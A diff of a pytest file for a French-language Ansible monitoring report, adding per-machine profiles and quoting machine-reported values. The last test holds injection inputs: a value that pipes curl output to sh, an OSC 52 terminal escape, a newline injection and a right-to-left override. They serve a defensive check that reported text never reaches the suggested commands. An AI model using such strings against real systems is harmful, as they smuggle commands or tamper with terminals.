@@ -14,6 +14,7 @@ from ansible_collections.cdg59.creatic.plugins.module_utils.registry import grou
 REPO = Path(__file__).parents[3]
 MOMENT = dt.datetime(2026, 11, 28, 7, 30, tzinfo=dt.UTC)
 MACHINES = {"sae1": "", "gondecourt-connecteur": "gondecourt"}
+PROFILES = {"sae1": "archive_node", "gondecourt-connecteur": "tdt_connector"}
 
 
 def report(**changes: Any) -> dict[str, Any]:
@@ -44,8 +45,10 @@ def home(tmp_path: Path) -> Path:
     return tmp_path
 
 
-def looked(home: Path, answers: dict[str, Any], moment: dt.datetime = MOMENT) -> screen.Morning:
-    return screen.look(home, MACHINES, answers, state(), moment)
+def looked(
+    home: Path, answers: dict[str, Any], moment: dt.datetime = MOMENT, profiles: dict[str, str] | None = None
+) -> screen.Morning:
+    return screen.look(home, MACHINES, answers, state(), moment, profiles=profiles or PROFILES)
 
 
 def good() -> dict[str, Any]:
@@ -61,13 +64,13 @@ def test_nothing_is_wrong(home: Path) -> None:
 @pytest.mark.parametrize(
     ("changes", "grave", "text"),
     [
-        ({"unites": ["nginx.service"]}, 1, "nginx.service en échec"),
-        ({"disques": [{"point": "/srv", "plein": 91}]}, 1, "disque /srv plein à 91 %"),
-        ({"disques": [{"point": "/srv", "plein": 85}]}, 0, "disque /srv plein à 85 %"),
+        ({"unites": ["nginx.service"]}, 1, "« nginx.service » en échec"),
+        ({"disques": [{"point": "/srv", "plein": 91}]}, 1, "disque « /srv » plein à 91 %"),
+        ({"disques": [{"point": "/srv", "plein": 85}]}, 0, "disque « /srv » plein à 85 %"),
         ({"a_l_heure": False}, 0, "horloge non synchronisée"),
         ({"maintenant": MOMENT.timestamp() - 31_536_000}, 1, "horloge à 365 jours de celle d'ici"),
         ({"redemarrage": True}, 0, "un redémarrage est demandé par Debian"),
-        ({"illisibles": ["a.prom"]}, 0, "mesures illisibles : a.prom"),
+        ({"illisibles": ["a.prom"]}, 0, "mesures illisibles : « a.prom »"),
         ({"mesures": ["creatic_aide_differences 3"]}, 1, "3 fichiers diffèrent de la référence (AIDE)"),
     ],
 )
@@ -154,8 +157,7 @@ tdt_connector_refused{{entite="gondecourt-ccas",par="prefecture"}} {refused}
     after = looked(home, told(8, 5, 1), MOMENT + dt.timedelta(days=1))
     assert after.acts == {"gondecourt": 3}
     [refusal] = [one for one in after.findings if "refus" in one.text]
-    assert (refusal.machine, refusal.text.endswith("(gondecourt-ccas)")) == ("gondecourt-connecteur", True)
-    assert refusal.fix.endswith("(gondecourt-ccas)")
+    assert (refusal.machine, refusal.text.endswith("(« gondecourt-ccas »)")) == ("gondecourt-connecteur", True)
 
 
 def test_a_machine_that_was_away_counts_from_its_last_word(home: Path) -> None:
@@ -200,7 +202,7 @@ def test_the_supervision_is_told_of_the_control_node_s_own_records(home: Path) -
     assert "error" not in done.stderr, done.stderr
     told = [said for _, said, _ in figures.judge(figures.parse(text), {}, MOMENT.timestamp())]
     assert told == [
-        "dernier exercice de restauration de sae en échec",
+        "dernier exercice de restauration de « sae » en échec",
         "dernier audit : rien depuis 180 jours",
         "dernier exercice de restauration : rien depuis toujours",
     ]
@@ -230,7 +232,8 @@ def test_ages_are_told_by_what_they_are_of(home: Path) -> None:
     (home / "metriques" / "exercices.prom").write_text(
         f'creatic_drill_timestamp_seconds{{client="sae"}} {now - 20 * 86400}'
     )
-    assert screen.by_age(looked(home, good() | {"sae1": report(mesures=[told])})) == [
+    keeper = PROFILES | {"sae1": "backup_server"}
+    assert screen.by_age(looked(home, good() | {"sae1": report(mesures=[told])}, profiles=keeper)) == [
         ("Certificats", "reste",
          [("moins de 30 j", 1), ("moins de 60 j", 0), ("moins de 90 j", 1), ("90 j et plus", 0)], "pc : 12 jours"),
         ("Sauvegardes", "âge", [("moins de 1 j", 0), ("moins de 2 j", 0), ("moins de 7 j", 1), ("7 j et plus", 0)],
@@ -243,3 +246,29 @@ def test_ages_are_told_by_what_they_are_of(home: Path) -> None:
 def test_mails_that_wait_on_a_machine_are_told(home: Path) -> None:
     found = looked(home, good() | {"sae1": report(mesures=["creatic_machine_mails_waiting 101\n"])}).findings
     assert [(one.machine, one.text) for one in found] == [("sae1", "101 courriels attendent de partir")]
+
+
+def test_a_machine_tells_what_its_profile_makes_alone(home: Path) -> None:
+    """A connector that says that backups were erased, or that the archives are, is not heard; nor one of no profile."""
+    lies = 'creatic_depot_suspect{client="sae1"} 1\nsae_fixite_anomalies 9\ncreatic_drill_good{client="ged"} 0\n'
+    own = 'tdt_connector_contact_failing{entite="a",x="1"} 1\ntdt_connector_contact_failing{entite="a",x="2"} 1\n'
+    answers = good() | {"gondecourt-connecteur": report(mesures=[lies + own])}
+    assert [one.text for one in looked(home, answers).findings] == [
+        "le tiers de télétransmission ne répond pas (« a »)"
+    ]
+    assert looked(home, answers, profiles={"sae1": "archive_node"}).findings == []
+    keeper = good() | {"sae1": report(mesures=[lies])}
+    [found] = looked(home, keeper, profiles=PROFILES | {"sae1": "backup_server"}).findings
+    assert found.text == "sauvegardes de « sae1 » effacées ou remplacées"
+
+
+@pytest.mark.parametrize(
+    "word", ["x; curl http://a | sh", "a\x1b]52;c;AAAA\x07", "a\nÀ faire : b", "\u202egauche", "a » b"]
+)
+def test_no_word_of_a_machine_is_in_what_is_to_be_run(home: Path, word: str) -> None:
+    answers = good() | {"sae1": report(unites=[word], disques=[{"point": word, "plein": 99}], illisibles=[word])}
+    found = looked(home, answers).findings
+    assert len(found) == 3
+    for one in found:
+        assert not any(part in one.fix for part in ("curl", "\x1b", "gauche")) and "\n" not in one.text + one.fix
+        assert one.text.count("«") == one.text.count("»") == 1 and one.text.isprintable()
